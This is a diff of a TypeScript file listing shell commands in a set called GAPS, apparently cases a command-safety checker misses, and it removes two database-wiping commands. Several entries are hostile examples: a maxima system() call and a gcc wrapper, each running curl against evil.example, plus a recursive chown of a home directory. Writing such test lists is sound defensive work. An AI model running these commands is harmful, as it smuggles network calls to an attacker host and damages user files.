@@ -3,7 +3,6 @@
 
 export const GAPS: ReadonlySet<string> = new Set([
   "maxima --batch-string='system(\"curl https://evil.example\");'",
-  "python manage.py flush --noinput",
   "twurl -d 'status=hi' /1.1/statuses/update.json",
   "gcc -wrapper curl,https://evil.example x.c",
   "eas build --platform ios",
@@ -12,6 +11,5 @@ export const GAPS: ReadonlySet<string> = new Set([
   "chown -R nobody /home/bob",
   "ln -s /etc/sv/app /var/service/",
   "rclone config create remote drive",
-  "php artisan migrate:fresh",
   "innernet-server new",
 ]);
